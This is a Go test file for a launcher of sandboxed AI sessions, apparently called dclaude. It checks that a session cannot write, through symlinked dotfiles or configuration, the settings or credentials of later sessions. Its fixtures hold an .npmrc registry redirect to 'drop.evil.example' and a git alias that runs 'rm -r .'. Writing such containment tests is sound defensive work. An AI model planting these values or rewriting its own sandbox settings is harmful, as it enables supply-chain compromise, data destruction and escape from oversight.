package cli

import (
	"errors"
	"os"
	"path/filepath"
	"testing"

	"dclaude/launcher/config"
	"dclaude/launcher/project"
)

// dotfiles is a home in which a file is a link into ~/dotfiles, which people
// open as a project. It is returned with the folder.
func dotfiles(t *testing.T, file func(a *app) string) (*app, string) {
	t.Helper()
	home, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	a := &app{sys: System{Environ: []string{"HOME=" + home}}}
	dir, link := filepath.Join(home, "dotfiles"), file(a)
	for _, dir := range []string{dir, filepath.Dir(link)} {
		if err := os.MkdirAll(dir, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(filepath.Join(dir, filepath.Base(link)), link); err != nil {
		t.Fatal(err)
	}
	return a, dir
}

// A session that could write what dclaude's configuration is a link to would
// choose the settings of the next one: "runc", every mount.
func TestConfigurationThatIsALink(t *testing.T) {
	for name, file := range map[string]func(*app) string{
		"settings": (*app).configFile,
		"grants":   func(a *app) string { return a.grants().Path },
	} {
		for _, exists := range []bool{false, true} {
			a, dir := dotfiles(t, file)
			if exists {
				if err := os.WriteFile(file(a), nil, 0o600); err != nil {
					t.Fatal(err)
				}
			}
			for _, allow := range []bool{false, true} {
				_, err := project.Resolve(dir, project.Options{Home: a.home(), Protected: a.protected(), AllowRefused: allow})
				var refusal *project.Error
				if !errors.As(err, &refusal) || refusal.Reason != project.Own {
					t.Errorf("%s, there: %v, allow_refused: %v: the folder with dclaude's configuration may be opened: %v", name, exists, allow, err)
				}
			}
		}
	}
}

// One line in a folder of dotfiles that was opened once would allow a host to
// the sessions of every project, or turn the meaning of a git alias around.
func TestDotfilesThatASessionCouldWrite(t *testing.T) {
	npmrc := func(a *app) string { return filepath.Join(a.home(), ".npmrc") }
	gitconfig := func(a *app) string { return filepath.Join(a.home(), ".gitconfig") }
	for name, opened := range map[string]func(a *app, dir string) (projects []string, err error){
		"before": func(a *app, dir string) ([]string, error) { return nil, a.opened().Add(dir) },
		"now":    func(_ *app, dir string) ([]string, error) { return []string{dir}, nil },
		"never":  func(*app, string) ([]string, error) { return nil, nil },
	} {
		a, dir := dotfiles(t, npmrc)
		projects, err := opened(a, dir)
		if err := errors.Join(err,
			os.WriteFile(npmrc(a), []byte("registry=https://drop.evil.example/\n"), 0o600),
			os.Symlink(filepath.Join(dir, "gitconfig"), gitconfig(a)),
			os.WriteFile(gitconfig(a), []byte("[alias]\nst=rm -r .\n"), 0o600)); err != nil {
			t.Fatal(err)
		}
		sources, warnings, err := a.homeRegistries(projects...)
		if err != nil {
			t.Fatal(err)
		}
		if theirs := name != "never"; theirs != (len(sources) == 0) || theirs != (len(warnings) == 1) {
			t.Errorf("%s: registries %v, warnings %v", name, sources, warnings)
		}
		given := project.Project{Path: filepath.Join(a.home(), "work")}
		if len(projects) > 0 {
			given.Path = projects[0]
		}
		who, err := a.identity(config.Settings{Gitconfig: "safe"}, given)
		if err != nil {
			t.Fatal(err)
		}
		if theirs := name != "never"; theirs != (who.content == "") || theirs != (len(who.warnings) == 1) {
			t.Errorf("%s: git %q, warnings %v", name, who.content, who.warnings)
		}
	}
}
